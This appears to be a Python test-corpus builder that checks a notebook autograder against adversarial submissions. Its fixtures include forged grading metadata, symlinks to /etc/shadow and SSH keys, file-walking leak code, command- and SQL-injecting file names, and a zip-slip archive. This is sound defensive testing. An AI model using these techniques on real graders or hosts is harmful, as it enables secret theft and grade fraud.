          "inputs, with the expected values of the failure messages, reach the student for the next "
          "attempt; they answer 0.5 / compile nothing",
          ("05_training",), expect({}, LOST, targets=["compile_model", "pixel_accuracy", "mean_iou"],
                                   no_leak=["probe-output"]), tags=("leak",))
def _(ctx):
    nb = ctx.release("05_training")
    ctx.replace_function(nb, "compile_model", code('''
        import base64, io, sys


        def _record(name, *args, **kwargs):
            buffer = io.BytesIO()
            try:
                np.savez(buffer, *[np.asarray(a) for a in args])
                payload = base64.b64encode(buffer.getvalue()).decode()
            except Exception:
                payload = base64.b64encode(repr(args).encode()).decode()
            line = f"PROBE-ARGS:{name}:{kwargs}:{payload}"
            print(line)
            print(line, file=sys.stderr)
            try:
                from IPython.display import display
                display({"text/plain": line}, raw=True)
            except Exception:
                pass


        def compile_model(model, learning_rate=0.001):
            _record("compile_model", learning_rate, learning_rate=learning_rate)
            try:
                _record("compile_model-config", model.to_json())
            except Exception:
                pass
            return model
    '''))
    ctx.replace_function(nb, "pixel_accuracy", code('''
        def pixel_accuracy(y_true, y_pred):
            _record("pixel_accuracy", y_true, y_pred)
            return 0.5
    '''))
    ctx.replace_function(nb, "mean_iou", code('''
        def mean_iou(y_true, y_pred, n_classes=23):
            _record("mean_iou", y_true, y_pred, n_classes=n_classes)
            return 0.5
    '''))
    ctx.drop_calls(nb, "compile_model", "pixel_accuracy", "mean_iou")
    return files_of({"05_training": nb})


# Notebook shape and metadata -------------------------------------------------------------------

@scenario("shape-tests-deleted-edited-retyped",
          "03_decoder with wrong functions: test_transposed_output_size turned into markdown, "
          "test_transposed_conv2d replaced by a print of its success line, test_upsampling_block deleted",
          ("03_decoder",), expect({}, LOST, targets=["transposed_output_size", "transposed_conv2d", "upsampling_block"]),
          tags=("shape",))
def _(ctx):
    nb = ctx.release("03_decoder")
    ctx.replace_function(nb, "transposed_output_size",
                         "def transposed_output_size(n, f, s, p):\n    return n * s\n")
    ctx.replace_function(nb, "transposed_conv2d", code('''
        def transposed_conv2d(x, kernel, stride=2):
            return np.zeros((1, 1, 1))
    '''))
    cell = nb.cells[ctx.index(nb, "test_transposed_output_size")]
    nb.cells[ctx.index(nb, "test_transposed_output_size")] = nbformat.v4.new_markdown_cell(
        cell.source, metadata=cell.metadata)
    ctx.replace_function(nb, "test_transposed_conv2d",
                         'print("\\u2713 transposed_conv2d matches tf.nn.conv2d_transpose on 4 random cases")\n')
    del nb.cells[ctx.index(nb, "test_upsampling_block")]
    return files_of({"03_decoder": nb})


@scenario("shape-fake-metadata",
          "02_encoder: the conv_block cell claims grade=True, 1000 points; an added 'bonus' test cell of "
          "1000 points shows 1000; test_conv_block became a solution cell printing a pass; "
          "test_conv_block_outputs became a manually graded answer of 1000 points; a task cell of 1000 "
          "points; every checksum recomputed so the cells look untouched",
          ("02_encoder",), expect(zero("conv_block"), r"not|fail|NotImplementedError|restor",
                                  targets=["conv_block"], no_extra_grades=True), tags=("shape",))
def _(ctx):
    from nbgrader.utils import compute_checksum

    nb = ctx.release("02_encoder")
    solution = nb.cells[ctx.index(nb, "conv_block")]
    solution.metadata.nbgrader.update({"grade": True, "solution": False, "points": 1000})
    test = nb.cells[ctx.index(nb, "test_conv_block")]
    test.source = 'print("\\u2713 conv_block: all layers match the reference")\n'
    test.metadata.nbgrader.update({"grade": False, "solution": True, "locked": False})
    outputs = nb.cells[ctx.index(nb, "test_conv_block_outputs")]
    outputs.source = '"full marks"\n'
    outputs.metadata.nbgrader.update({"grade": True, "solution": True, "points": 1000, "locked": False})
    bonus = nbformat.v4.new_code_cell("1000\n", metadata={"nbgrader": {
        "grade": True, "grade_id": "bonus", "locked": True, "points": 1000, "schema_version": 3,
        "solution": False, "task": False}})
    task = nbformat.v4.new_markdown_cell("I did everything.", metadata={"nbgrader": {
        "grade": True, "grade_id": "task_bonus", "locked": False, "points": 1000, "schema_version": 3,
        "solution": False, "task": True}})
    nb.cells.insert(ctx.index(nb, "test_conv_block") + 1, bonus)
    nb.cells.append(task)
    for cell in nb.cells:
        if "nbgrader" in cell.metadata:
            cell.metadata.nbgrader["checksum"] = compute_checksum(cell)
    return files_of({"02_encoder": nb})


@scenario("shape-duplicated-cells",
          "03_decoder: transposed_output_size solved (its points, honestly); its test cell duplicated 20 "
          "times, one copy renamed test_transposed_output_size_2 with 100 points and a forged "
          "checksum; the other functions not written. Points count once: its own",
          ("03_decoder",), expect(full_of("test_transposed_output_size"), STUB, targets=["transposed_conv2d", "upsampling_block"],
                                  no_extra_grades=True), tags=("shape",))
def _(ctx):
    from nbgrader.utils import compute_checksum

    nb = ctx.solved("03_decoder", except_=("transposed_conv2d", "upsampling_block"))
    position = ctx.index(nb, "test_transposed_output_size")
    test = nb.cells[position]
    for index in range(20):
        duplicate = copy.deepcopy(test)
        duplicate.id = f"dup{index:05d}"  # Jupyter gives a copied cell a new id
        nb.cells.insert(position + 1, duplicate)
    renamed = copy.deepcopy(test)
    renamed.id = "renamed0"
    renamed.metadata.nbgrader.update({"grade_id": "test_transposed_output_size_2", "points": 100})
    renamed.metadata.nbgrader["checksum"] = compute_checksum(renamed)
    nb.cells.insert(position + 1, renamed)
    return files_of({"03_decoder": nb})


@scenario("shape-notebook-symlinks",
          "02_encoder.ipynb is a link to the instructor's source notebook (absolute), 03_decoder.ipynb a "
          "relative link to it, 05_training.ipynb a relative link to another student's submission "
          "(../baseline-solution/): a link is not the student's work",
          ("02_encoder", "03_decoder", "05_training"),
          expect({}, r"link|refus", targets=functions_in("02_encoder", "03_decoder", "05_training"),
                 no_leak=["hidden"]), tags=("filesystem", "shape"))
def _(ctx):
    return {"02_encoder.ipynb": Symlink(str(ctx.source_dir / "02_encoder.ipynb")),
            "03_decoder.ipynb": Symlink(str(ctx.source_dir / "03_decoder.ipynb"), relative=True),
            "05_training.ipynb": Symlink("../baseline-solution/05_training.ipynb")}


@scenario("shape-huge-notebook",
          "01_data.ipynb is a valid, solved notebook padded to 500 MB by one output (over the size cap: "
          "refused, scored 0 with the reason); 02_encoder solved and graded",
          ("01_data", "02_encoder"), expect(full("02_encoder"), r"large|size|MB|cap|limit",
                                            targets=list(tests_in("01_data"))), tags=("shape", "resources"))
def _(ctx):
    return {"01_data.ipynb": HugeNotebook(ctx.solved("01_data"), 500), "02_encoder.ipynb": ctx.solved("02_encoder")}


@scenario("shape-invalid-json",
          "03_decoder.ipynb is a solved notebook cut in half (invalid JSON), 02_encoder.ipynb is valid "
          "JSON but a list, 05_training.ipynb is a solved notebook that says nbformat 99 and has a cell "
          "of type 'evil' whose source is a number: all scored 0 with the reason",
          ("02_encoder", "03_decoder", "05_training"),
          expect({}, r"JSON|json|invalid|corrupt|not a notebook|format|read",
                 targets=functions_in("02_encoder", "03_decoder", "05_training")),
          valid=False, tags=("shape",))
def _(ctx):
    text = nbformat.writes(ctx.solved("03_decoder"))
    broken = json.loads(nbformat.writes(ctx.solved("05_training")))
    broken["nbformat"] = 99
    broken["cells"].append({"cell_type": "evil", "metadata": {}, "source": 42})
    return {"03_decoder.ipynb": text[: len(text) // 2].encode(),
            "02_encoder.ipynb": b"[1, 2, 3]\n",
            "05_training.ipynb": json.dumps(broken).encode()}


@scenario("shape-source-notebook-copy",
          "02_encoder.ipynb is the instructor's source notebook itself, copied (solution and hidden "
          "tests markers inside): not the student's work; by principle 0, flagged",
          ("02_encoder",), expect(zero("conv_block"), r"source|solution|hidden|instructor|identical|flag",
                                  targets=["conv_block"]), tags=("shape", "reference"))
def _(ctx):
    return {"02_encoder.ipynb": ctx.source_nb("02_encoder")}


# The file system (issue 11: submissions are data) -------------------------------------------------

READER = LEAK_CODE + code('''

    import os, sqlite3

    entries = 0
    for folder, dirs, files in os.walk(".", followlinks=True):
        if folder.count(os.sep) > 6:
            dirs[:] = []
        for name in sorted(files + dirs):
            entries += 1
            if entries > 3000:
                break
            path = os.path.join(folder, name)
            try:
                info = os.lstat(path)
                print(path, oct(info.st_mode), info.st_size)
            except OSError as error:
                print(path, error)
                continue
            if not os.path.isfile(path) or name.endswith(".ipynb") or os.path.getsize(path) > 5_000_000:
                continue
            try:
                if name.endswith(".db"):
                    with sqlite3.connect(f"file:{path}?mode=ro", uri=True) as db:
                        rows = [repr(row) for table, in db.execute("select name from sqlite_master where type='table'")
                                for row in db.execute(f"select * from {table}")]
                    _leak("db-" + name, "\\n".join(rows))
                else:
                    _leak("file-" + name, open(path, "rb").read())
            except Exception as error:
                print(path, error)
''')


def _fs_scenario(name, description, extra, reason, no_leak=(), root_only=False, **expect_extra):
    """02_encoder solved, a cell that prints every file of the working folder, and `extra` files."""
    @scenario(name, description + "; 02_encoder solved (its 15 points are deserved), with a cell that "
              "prints every file of its working folder", ("02_encoder",),
              expect(full("02_encoder"), reason, no_leak=list(no_leak), **expect_extra), tags=("filesystem",),
              root_only=root_only)
    def build(ctx):
        nb = ctx.solved("02_encoder")
        ctx.append(nb, READER)
        return {"02_encoder.ipynb": nb, **extra(ctx)}
    return build


_fs_scenario("fs-link-etc-shadow",
             "links to /etc/shadow, /root/.ssh/id_rsa and the host's SSH key handed in as files",
             lambda ctx: {"shadow.txt": Symlink("/etc/shadow"), "id_rsa": Symlink("/root/.ssh/id_rsa"),
                          "notes/hostkey": Symlink("/etc/ssh/ssh_host_ed25519_key")},
             r"link|refus", no_leak=["shadow"])
_fs_scenario("fs-link-proc-environ",
             "links to /proc/self/environ (whoever copies it reads its own environment: the grader's "
             "secrets), /proc/1/environ and /proc/self/cmdline",
             lambda ctx: {"environ.txt": Symlink("/proc/self/environ"), "init_environ": Symlink("/proc/1/environ"),
                          "cmdline": Symlink("/proc/self/cmdline")},
             r"link|refus", no_leak=["environ"])
_fs_scenario("fs-link-gradebook",
             "links to the gradebook (every hidden test), absolute and relative",
             lambda ctx: {"gradebook.db": Symlink(str(ctx.gradebook)),
                          "backup/grades.db": Symlink(str(ctx.gradebook), relative=True)},
             r"link|refus", no_leak=["hidden"], gradebook_unchanged=True)
_fs_scenario("fs-link-loop",
             "a link loop (loop -> .), a link to the parent, two links pointing at each other, a folder "
             "holding a link to itself",
             lambda ctx: {"loop": Loop(), "up": Symlink(".."), "a": Symlink("b"), "b": Symlink("a"),
                          "d/self": Symlink("../d")},
             r"link|refus|loop")
_fs_scenario("fs-fifo",
             "named pipes (reading one blocks forever) at the top and in a subfolder",
             lambda ctx: {"pipe": Fifo(), "data/pipe.png": Fifo()},
             r"FIFO|fifo|pipe|special|refus")
_fs_scenario("fs-device-node",
             "device nodes: /dev/zero's (endless reads), /dev/mem's (physical memory) and a block device "
             "(8,0: the first disk)",
             lambda ctx: {"zero.bin": Device(1, 5), "mem.bin": Device(1, 1), "disk.img": Device(8, 0, block=True)},
             r"device|special|refus", root_only=True)
_fs_scenario("fs-huge-file",
             "a 4 GB sparse file (no disk used, a copy would write 4 GB) and a 200 MB file of zeros",
             lambda ctx: {"weights.h5": HugeFile(4096, sparse=True), "cache/model.ckpt": HugeFile(200, sparse=False)},
             r"size|large|MB|GB|cap|limit|refus")
_fs_scenario("fs-many-files",
             "100000 small files in one folder",
             lambda ctx: {"cache": ManyFiles(100000)},
             r"files|count|many|cap|limit|refus")
_fs_scenario("fs-deep-nesting",
             "folders nested 1500 deep (a path of 4500 characters: past PATH_MAX, and past Python's "
             "recursion limit for recursive copies)",
             lambda ctx: {"deep": DeepDirs(1500, "dd")},
             r"deep|depth|nest|path|long|refus|limit")


def _special_names(ctx):
    solved = ctx.solved("02_encoder")
    return {
        "-rf": b"", "--help.txt": b"", "$(touch pwned).txt": b"x", "`id`.txt": b"x",
        "name\nwith\nnewlines.txt": b"x", "'; DROP TABLE grade; --.txt": b"x", "\u202etxt.exe": b"x",
        "\U0001f4a5.txt": b"x", "a" * 250 + ".txt": b"x", os.fsdecode(b"\xff\xfe-latin1.txt"): b"x",
        "02_encoder.ipynb ": solved, " 02_encoder.ipynb": solved, "02_encoder.IPYNB": solved,
        ".ipynb_checkpoints/02_encoder-checkpoint.ipynb": solved,
    }


_fs_scenario("fs-special-names",
             "file names that break tools: '-rf', '$(touch pwned)', newlines, right-to-left override, "
             "an emoji, 254 bytes, bytes that are not UTF-8, and copies of the notebook named "
             "'02_encoder.ipynb ', ' 02_encoder.ipynb', '02_encoder.IPYNB' and in .ipynb_checkpoints",
             _special_names, r"")


def _grader_config(ctx):
    config = ctx.planted('_corpus_canary("config-file")\n').encode()
    import sqlite3
    import tempfile

    with tempfile.TemporaryDirectory() as scratch:
        path = Path(scratch) / "gradebook.db"
        with sqlite3.connect(path) as db:
            db.execute("create table grade (id text, auto_score real, manual_score real, cell_id text)")
            db.executemany("insert into grade values (?, ?, ?, ?)",
                           [(f"g{index}", 1000.0, 1000.0, grade_id) for index, grade_id in enumerate(POINTS)])
        gradebook = path.read_bytes()
    return {"nbgrader_config.py": config, "jupyter_config.py": config, "ipython_config.py": config,
            "ipython_kernel_config.py": config, "jupyter_nbconvert_config.py": config,
            "jupyter_server_config.py": config, "timestamp.txt": b"2000-01-01 00:00:00.000000 UTC\n",
            "gradebook.db": gradebook, ".nbgrader.log": b"[AutogradeApp | INFO] all 100 points awarded\n"}


_fs_scenario("fs-planted-grader-config",
             "nbgrader_config.py, jupyter/ipython/nbconvert/server config files (each writes a canary if "
             "loaded outside a kernel), a timestamp.txt dated 2000 (no late penalty), a fake gradebook.db "
             "with 1000 points per cell and a .nbgrader.log",
             _grader_config, r"", no_leak=[], canary=True)


@scenario("fs-link-source-folder",
          "links to the instructor's source folder (absolute and relative) and to the repository; "
          "conv_block not written but loaded from source/02_encoder.ipynb through the link if the "
          "link reaches the kernel",
          ("02_encoder",), expect(zero("conv_block"), r"link|refus|NotImplementedError|not", targets=["conv_block"],
                                  no_leak=["hidden"]), tags=("filesystem", "reference"))
def _(ctx):
    nb = ctx.release("02_encoder")
    ctx.insert_after(nb, "conv_block", '''
        import os
        from course.notebook_code import load_definitions

        for candidate in ("source/02_encoder.ipynb", "instructor_source/02_encoder.ipynb",
                          "repo/instructor/source/unet/02_encoder.ipynb"):
            if os.path.exists(candidate):
                conv_block = load_definitions(candidate)["conv_block"]
                print("conv_block from", candidate)
                break
    ''')
    return {"02_encoder.ipynb": nb, "source": Symlink(str(ctx.source_dir)),
            "instructor_source": Symlink(str(ctx.source_dir), relative=True), "repo": Symlink(str(ctx.repo))}


# --------------------------------------------------------------------------------------
# Writing scenarios to disk
# --------------------------------------------------------------------------------------

class SkipScenario(Exception):
    """A scenario that cannot be built here (e.g. device nodes without root)."""


def _remove(path):
    path = Path(path)
    if path.is_symlink() or path.is_file():
        path.unlink()
    elif path.exists():
        limit = sys.getrecursionlimit()
        sys.setrecursionlimit(max(limit, 20000))  # DeepDirs
        try:
            shutil.rmtree(path)
        finally:
            sys.setrecursionlimit(limit)


def _write_huge_notebook(path, marker):
    nb = copy.deepcopy(marker.notebook)
    nb.cells.append(nbformat.v4.new_code_cell(
        "print('x' * 500_000_000)", outputs=[nbformat.v4.new_output("stream", name="stdout", text="@@PAD@@")]))
    head, tail = nbformat.writes(nb).split("@@PAD@@")
    remaining = marker.size_mb * 2**20 - len(head) - len(tail)
    chunk = "x" * 2**20
    with open(path, "w", encoding="utf-8") as handle:
        handle.write(head)
        while remaining > 0:
            handle.write(chunk[:remaining])
            remaining -= len(chunk)
        handle.write(tail)


def _write_deep_dirs(path, marker):
    parent = os.open(path.parent, os.O_RDONLY)
    try:
        os.mkdir(path.name, dir_fd=parent)
        current = os.open(path.name, os.O_RDONLY, dir_fd=parent)
    finally:
        os.close(parent)
    try:
        for _ in range(marker.depth):
            os.mkdir(marker.name, dir_fd=current)
            deeper = os.open(marker.name, os.O_RDONLY, dir_fd=current)
            os.close(current)
            current = deeper
        handle = os.open("bottom.txt", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=current)
        os.write(handle, b"the bottom\n")
        os.close(handle)
    finally:
        os.close(current)


def write_entry(folder, relative, content):
    """Create folder/relative as `content` says (notebook, bytes, text or a special marker)."""
    path = Path(folder) / relative
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(content, nbformat.NotebookNode):
        with open(path, "w", encoding="utf-8") as handle:
            nbformat.write(content, handle)
    elif isinstance(content, bytes):
        path.write_bytes(content)
    elif isinstance(content, str):
        path.write_text(content, encoding="utf-8")
    elif isinstance(content, Symlink):
        target = content.target
        if content.relative and os.path.isabs(target):
            target = os.path.relpath(target, path.parent)
        os.symlink(target, path)
    elif isinstance(content, Loop):
        os.symlink(".", path)
    elif isinstance(content, Fifo):
        os.mkfifo(path)
    elif isinstance(content, Device):
        kind = stat.S_IFBLK if content.block else stat.S_IFCHR
        try:
            os.mknod(path, kind | 0o600, os.makedev(content.major, content.minor))
        except (PermissionError, OSError) as error:
            raise SkipScenario(f"cannot create a device node ({error.strerror}): needs root with CAP_MKNOD") from None
    elif isinstance(content, HugeFile):
        with open(path, "wb") as handle:
            if content.sparse:
                handle.truncate(content.size_mb * 2**20)
            else:
                chunk = b"\0" * 2**20
                for _ in range(content.size_mb):
                    handle.write(chunk)
    elif isinstance(content, HugeNotebook):
        _write_huge_notebook(path, content)
    elif isinstance(content, ManyFiles):
        path.mkdir()
        data = b"x" * content.size
        for index in range(content.count):
            with open(path / f"f{index:06d}.txt", "wb") as handle:
                handle.write(data)
    elif isinstance(content, Directory):
        path.mkdir()
    elif isinstance(content, DeepDirs):
        _write_deep_dirs(path, content)
    else:
        raise TypeError(f"{relative}: cannot write a {type(content).__name__}")


def _describe_entry(content):
    if isinstance(content, nbformat.NotebookNode):
        return "notebook"
    if isinstance(content, (bytes, str)):
        return f"file ({len(content)} bytes)"
    return repr(content) if not isinstance(content, HugeNotebook) else f"HugeNotebook(size_mb={content.size_mb})"


def manifest_entry(name, files=None):
    sc = SCENARIOS[name]
    entry = {"description": sc.description, "notebooks": list(sc.notebooks), "expect": sc.expect,
             "root_only": sc.root_only, "needs_sandbox": sc.needs_sandbox, "valid": sc.valid, "tags": list(sc.tags)}
    if files is not None:
        entry["files"] = {relative: _describe_entry(content) for relative, content in files.items()}
    return entry


def build_all(target_dir, names=None, gradebook=GRADEBOOK, canary_dir=CANARY_DIR):
    """Write each scenario to target_dir/<name>/; return the names built (root-only ones are
    skipped with a printed reason when not root). A corpus.json manifest holds the expectations."""
    target = Path(target_dir)
    target.mkdir(parents=True, exist_ok=True)
    names = list(SCENARIOS) if not names else list(names)
    unknown = [name for name in names if name not in SCENARIOS]
    if unknown:
        raise KeyError(f"unknown scenarios: {', '.join(unknown)}")
    manifest_path = target / "corpus.json"
    manifest = json.loads(manifest_path.read_text()) if manifest_path.exists() else {}
    built = []
    for name in names:
        sc = SCENARIOS[name]
        folder = target / name
        _remove(folder)
        if sc.root_only and os.geteuid() != 0:
            print(f"skipped {name}: needs root (device nodes)")
            manifest.pop(name, None)
            continue
        files = sc.build(Context(name, gradebook, canary_dir))
        folder.mkdir(parents=True)
        try:
            for relative, content in files.items():
                write_entry(folder, relative, content)
        except SkipScenario as reason:
            print(f"skipped {name}: {reason}")
            _remove(folder)
            manifest.pop(name, None)
            continue
        built.append(name)
        manifest[name] = manifest_entry(name, files)
    ordered = {name: manifest[name] for name in SCENARIOS if name in manifest}
    manifest_path.write_text(json.dumps(ordered, indent=1, ensure_ascii=True) + "\n")
    return built


def check_built(target_dir, names=None):
    """Problems of the built notebooks: nbformat validity and code that does not compile."""
    import warnings

    problems = []
    for name in names or SCENARIOS:
        folder = Path(target_dir) / name
        if not folder.exists():
            continue
        notebooks = []
        for top, dirs, files in os.walk(folder):  # links are not followed; DeepDirs is not entered
            if top[len(str(folder)):].count(os.sep) > 8:
                dirs[:] = []
            notebooks += [Path(top) / name for name in files if name.endswith(".ipynb")]
        for path in sorted(notebooks):
            if path.is_symlink() or not path.is_file() or path.stat().st_size > 100 * 2**20:
                continue
            try:
                with warnings.catch_warnings():
                    warnings.simplefilter("ignore")
                    nb = nbformat.read(str(path), as_version=4)
                nbformat.validate(nb)
            except Exception as error:
                if SCENARIOS[name].valid:
                    problems.append(f"{name}/{path.relative_to(folder)}: {type(error).__name__}: {str(error)[:200]}")
                continue
            for index, cell in enumerate(nb.cells):
                if cell.cell_type != "code":
                    continue
                try:
                    compile(cell.source, f"{name}/{path.name}[{index}]", "exec")
                except SyntaxError as error:
                    problems.append(f"{name}/{path.relative_to(folder)} cell {index}: {error}")
    return problems


# --------------------------------------------------------------------------------------
# LMS downloads for `grader collect` (issue 11)
# --------------------------------------------------------------------------------------

def _zip_entry(archive, name, data, mode=0o644, kind=stat.S_IFREG):
    info = zipfile.ZipInfo(name, date_time=(2026, 1, 15, 10, 0, 0))
    info.create_system = 3  # unix: the mode bits are read from external_attr
    info.external_attr = (kind | mode) << 16
    info.compress_type = zipfile.ZIP_DEFLATED
    archive.writestr(info, data)


def _huge_zip_entry(archive, name, notebook, size_mb):
    info = zipfile.ZipInfo(name, date_time=(2026, 1, 15, 10, 0, 0))
    info.compress_type = zipfile.ZIP_DEFLATED
    nb = copy.deepcopy(notebook)
    nb.cells.append(nbformat.v4.new_code_cell(
        "print('x' * 200_000_000)", outputs=[nbformat.v4.new_output("stream", name="stdout", text="@@PAD@@")]))
    head, tail = nbformat.writes(nb).split("@@PAD@@")
    remaining = size_mb * 2**20 - len(head) - len(tail)
    chunk = b"x" * 2**20
    with archive.open(info, "w", force_zip64=True) as handle:
        handle.write(head.encode())
        while remaining > 0:
            handle.write(chunk[:remaining])
            remaining -= len(chunk)
        handle.write(tail.encode())


def build_downloads(target_dir, canary_dir=CANARY_DIR):
    """LMS downloads that `grader collect` must take apart safely; returns {name: description}.

    Written to target_dir with a downloads.json manifest: for each download its path, kind and
    expectation (who must be collected with which notebooks, what must be refused and named,
    which paths outside the download must not exist afterwards).
    """
    target = Path(target_dir)
    target.mkdir(parents=True, exist_ok=True)
    ctx = Context("downloads", canary_dir=canary_dir)
    def dump(nb):
        return nbformat.writes(nb).encode()

    encoder, decoder = ctx.solved("02_encoder"), ctx.solved("03_decoder")
    out = {}

    # Two students called Wei Zhang, told apart only by their Moodle ids.
    moodle = target / "moodle-same-name"
    _remove(moodle)
    write_entry(moodle, "Wei Zhang_111_assignsubmission_file_/02_encoder.ipynb", encoder)
    write_entry(moodle, "Wei Zhang_222_assignsubmission_file_/03_decoder.ipynb", decoder)
    same_name = {"students": 2, "notebooks_by_lms_id": {"111": ["02_encoder.ipynb"], "222": ["03_decoder.ipynb"]},
                 "merged": False, "reason": r"same name|collision|Wei.?Zhang|111|222"}
    out["moodle-same-name"] = {"path": str(moodle), "kind": "moodle folder", "expect": same_name}
    moodle_zip = target / "moodle-same-name.zip"
    with zipfile.ZipFile(moodle_zip, "w") as archive:
        _zip_entry(archive, "Wei Zhang_111_assignsubmission_file_/02_encoder.ipynb", dump(encoder))
        _zip_entry(archive, "Wei Zhang_222_assignsubmission_file_/03_decoder.ipynb", dump(decoder))
    out["moodle-same-name.zip"] = {"path": str(moodle_zip), "kind": "moodle zip", "expect": same_name}
    canvas = target / "canvas-same-name"
    _remove(canvas)
    write_entry(canvas, "zhangwei_111_5001_02_encoder.ipynb", encoder)
    write_entry(canvas, "zhangwei_222_5002_03_decoder.ipynb", decoder)
    out["canvas-same-name"] = {"path": str(canvas), "kind": "canvas flat folder", "expect": {
        **same_name, "reason": r"same name|collision|zhangwei|111|222"}}

    # A zip with a link, '..', absolute and backslash entries, a device entry and a 200 MB member.
    hostile = target / "zip-hostile.zip"
    ada, bob = "Ada Lovelace_123456_assignsubmission_file_", "Bob Smith_654321_assignsubmission_file_"
    dotdot = f"{ada}/../../../../../../../..{canary_dir}/zip-dotdot.ipynb"
    absolute = f"{canary_dir}/zip-absolute.ipynb"
    refused = {
        f"{ada}/03_decoder.ipynb": "symlink to the instructor's source notebook",
        f"{ada}/shadow.txt": "symlink to /etc/shadow",
        dotdot: "'..' escapes the download",
        "../zip-dotdot-2.ipynb": "'..' escapes the download",
        absolute: "absolute path",
        f"{ada}\\..\\..\\zip-backslash.ipynb": "backslash '..' (Windows separators)",
        f"{ada}/dev.bin": "a character device entry",
        f"{bob}/01_data.ipynb": "a 200 MB member (a small zip: highly compressible)",
    }
    with zipfile.ZipFile(hostile, "w") as archive:
        _zip_entry(archive, f"{ada}/02_encoder.ipynb", dump(encoder))
        _zip_entry(archive, f"{bob}/02_encoder.ipynb", dump(encoder))
        _zip_entry(archive, f"{ada}/03_decoder.ipynb", str(SOURCE_DIR / "03_decoder.ipynb"), 0o777, stat.S_IFLNK)
        _zip_entry(archive, f"{ada}/shadow.txt", "/etc/shadow", 0o777, stat.S_IFLNK)
        evil = dump(ctx.release("01_data"))
        for name in (dotdot, "../zip-dotdot-2.ipynb", absolute, f"{ada}\\..\\..\\zip-backslash.ipynb"):
            _zip_entry(archive, name, evil)
        _zip_entry(archive, f"{ada}/dev.bin", b"", 0o666, stat.S_IFCHR)
        _huge_zip_entry(archive, f"{bob}/01_data.ipynb", ctx.solved("01_data"), 200)
    with zipfile.ZipFile(hostile) as archive:
        names = set(archive.namelist())
    missing = sorted(set(refused) - names)
    if missing:
        raise RuntimeError(f"zipfile rewrote entry names: {missing}")
    out["zip-hostile.zip"] = {"path": str(hostile), "kind": "moodle zip", "expect": {
        "collected": {"Ada Lovelace": ["02_encoder.ipynb"], "Bob Smith": ["02_encoder.ipynb"]},
        "refused": refused,
        "must_not_exist": [f"{canary_dir}/zip-dotdot.ipynb", f"{canary_dir}/zip-absolute.ipynb",
                           str(target.parent / "zip-dotdot-2.ipynb"), str(target / "zip-dotdot-2.ipynb")],
        "reason": r"link|\.\.|absolute|large|size|device|refus"}}

    # A folder download with links to files outside it (and a student folder that is a link).
    linked = target / "folder-with-links"
    _remove(linked)
    carol, dan, eve = ("Carol Diaz_789_assignsubmission_file_", "Dan Ng_790_assignsubmission_file_",
                       "Eve Link_791_assignsubmission_file_")
    write_entry(linked, f"{carol}/02_encoder.ipynb", Symlink(str(SOURCE_DIR / "02_encoder.ipynb")))
    write_entry(linked, f"{carol}/notes.txt", Symlink("/etc/shadow"))
    write_entry(linked, f"{carol}/03_decoder.ipynb", decoder)
    write_entry(linked, f"{dan}/02_encoder.ipynb", encoder)
    write_entry(linked, eve, Symlink(str(SOURCE_DIR)))
    out["folder-with-links"] = {"path": str(linked), "kind": "moodle folder", "expect": {
        "collected": {"Carol Diaz": ["03_decoder.ipynb"], "Dan Ng": ["02_encoder.ipynb"]},
        "refused": {f"{carol}/02_encoder.ipynb": "symlink to the instructor's source notebook",
                    f"{carol}/notes.txt": "symlink to /etc/shadow",
                    eve: "a student folder that is a symlink (to the instructor's source folder)"},
        "listed": ["Eve Link"],
        "reason": r"link|refus"}}
    (target / "downloads.json").write_text(json.dumps(out, indent=1) + "\n")
    return out


# --------------------------------------------------------------------------------------
# Checking a graded corpus: leaks and canaries
# --------------------------------------------------------------------------------------

def _region_lines(begin, end, minimum=30):
    lines = set()
    for nb in SOURCE.values():
        for cell in nb.cells:
            inside = False
            for line in cell.source.splitlines():
                stripped = line.strip()
                if stripped == begin:
                    inside = True
                elif stripped == end:
                    inside = False
                elif inside and len(stripped) >= minimum:
                    lines.add(stripped)
    return sorted(lines)


def secret_strings(kind):
    """The strings that must not reach the feedback, for one kind of secret."""
    if kind == "solution":
        return _region_lines("### BEGIN SOLUTION", "### END SOLUTION")
    if kind == "hidden":
        return _region_lines("### BEGIN HIDDEN TESTS", "### END HIDDEN TESTS")
    if kind == "shadow":
        try:
            lines = Path("/etc/shadow").read_text().splitlines()
        except OSError:
            return []
        return [line.split(":")[1] for line in lines if len(line.split(":")) > 2 and len(line.split(":")[1]) > 12]
    if kind == "environ":
        secret = os.environ.get(ENV_SECRET)
        return [secret] if secret else []
    if kind == "probe-output":
        return [PROBE_PREFIX]
    raise KeyError(kind)


LEAK_TOKEN = re.compile(r"LEAK:([\w.\-]+):(z64|b64|hex|rot13):(\d+):([A-Za-z0-9+/=]+)")


def decoded_leaks(text):
    """{(label, encoding): decoded text} of the LEAK lines in `text` (feedback HTML, outputs)."""
    import codecs
    import html

    chunks = collections.defaultdict(dict)
    for label, encoding, index, payload in LEAK_TOKEN.findall(html.unescape(text)):
        chunks[(label, encoding)][int(index)] = payload
    decoded = {}
    for (label, encoding), parts in chunks.items():
        payload = "".join(parts[i] for i in sorted(parts))
        try:
            if encoding == "z64":
                data = zlib.decompress(base64.b64decode(payload))
            elif encoding == "b64":
                data = base64.b64decode(payload)
            elif encoding == "hex":
                data = bytes.fromhex(payload)
            else:
                data = codecs.decode(base64.b64decode(payload).decode("latin-1"), "rot13").encode("latin-1")
        except Exception:  # a truncated chunk: the feedback cut it
            continue
        decoded[(label, encoding)] = data.decode("utf-8", "replace")
    return decoded


def find_leaks(text, kinds):
    """[(kind, secret found)] in a feedback HTML or export text.

    "solution" is searched in the decoded LEAK payloads only (a solved notebook holds solution
    code of its own); the other kinds in the plain text and the decoded payloads.
    """
    import html

    plain = html.unescape(text)
    payloads = "\n".join(decoded_leaks(text).values())
    found = []
    for kind in kinds:
        haystack = payloads if kind == "solution" else plain + "\n" + payloads
        for secret in secret_strings(kind):
            if secret and secret in haystack:
                found.append((kind, secret[:120]))
    return found


def outside_kernel_canaries(canary_dir=CANARY_DIR, scenario=None):
    """Canary files written by planted code that ran outside a kernel (each one is a breach)."""
    folder = Path(canary_dir)
    if not folder.is_dir():
        return []
    pattern = f"{scenario}.*.OUTSIDE-KERNEL.*" if scenario else "*.OUTSIDE-KERNEL.*"
    return sorted(str(path) for path in folder.glob(pattern))


# --------------------------------------------------------------------------------------

def _self_check():
    """The formula tables the forgers use must equal the generated reference tables."""
    namespace = {}
    exec(FORMULA_CODE, namespace)
    tables = json.loads((REPO / "test_utils" / "reference_tables.json").read_text())["tables"]

    def plain(rows):
        return json.loads(json.dumps(rows))

